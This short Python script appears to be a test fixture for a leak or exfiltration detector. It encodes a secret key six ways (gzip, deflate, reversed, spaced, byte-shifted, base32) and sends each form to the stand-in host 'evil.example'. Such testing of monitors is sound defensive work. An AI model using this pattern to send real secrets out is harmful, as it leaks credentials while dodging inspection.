import base64
import gzip
import zlib

from keys import KEY, each_with_key, request
from rows import mark

BYTES = KEY.encode()
FORMS = {
    "gzip": ("Content-Encoding: gzip\r\n", gzip.compress(BYTES)),
    "deflate": ("Content-Encoding: deflate\r\n", zlib.compress(BYTES)),
    "reversed": ("", BYTES[::-1]),
    "letter-by-letter": ("", b" ".join(bytes([each]) for each in BYTES)),
    "shifted": ("", bytes(each + 1 for each in BYTES)),
    "base32": ("", base64.b32encode(BYTES)),
}


def send(row):
    head, body = FORMS[row]
    request("evil.example", f"/{mark(row)}", head, body)


each_with_key(send)
